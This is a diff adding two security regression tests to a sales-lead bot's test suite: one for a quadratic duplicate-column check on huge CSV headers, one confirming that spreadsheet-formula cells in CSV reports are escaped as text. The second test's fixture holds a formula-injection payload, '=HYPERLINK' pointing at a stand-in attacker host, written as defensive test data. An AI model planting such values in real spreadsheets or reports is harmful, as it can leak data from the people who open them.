@@ -59,3 +59,24 @@ def test_a_header_without_id_names_what_it_found(tmp_path: Path) -> None:
     with pytest.raises(LeadFileInvalid) as refused:
         csv_leads(write(tmp_path, "lead, country\nL-1, DE\n"))
     assert "`id` column" in str(refused.value) and "`lead`, `country`" in str(refused.value)
+
+
+def test_a_header_of_200000_columns_is_checked_in_one_pass(tmp_path: Path) -> None:
+    """Attack: the duplicate-name check was quadratic (200,000 columns ran past 2 minutes)."""
+    names = [f"c{i}" for i in range(200_000)]
+    with pytest.raises(LeadFileInvalid) as refused:
+        csv_leads(write(tmp_path, ",".join(["id", *names, "c7"]) + "\nL-1\n"))
+    assert "the header names `c7` twice (columns 9 and 200002)" in str(refused.value)
+
+
+def test_report_csv_cells_that_spreadsheets_would_run_are_written_as_text() -> None:
+    """Attack: a member named `=HYPERLINK(...)` (names will come from Slack profiles)."""
+    from bot.report_format import render_report
+    from bot.routing.results import ReportRow
+
+    row = ReportRow(period="2026-12", queue="+q", slack_id="@SUM(1+1)", leads=1, target_share=0.5,
+                    actual_share=0.5, lag=-0.5, adjustments=0, weight="1", status="active",
+                    name='=HYPERLINK("http://evil.example/?x","Alice")')
+    text = render_report([row], "csv")
+    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and ",'+q," in text
+    assert ",-0.5," in text  # a number keeps its sign
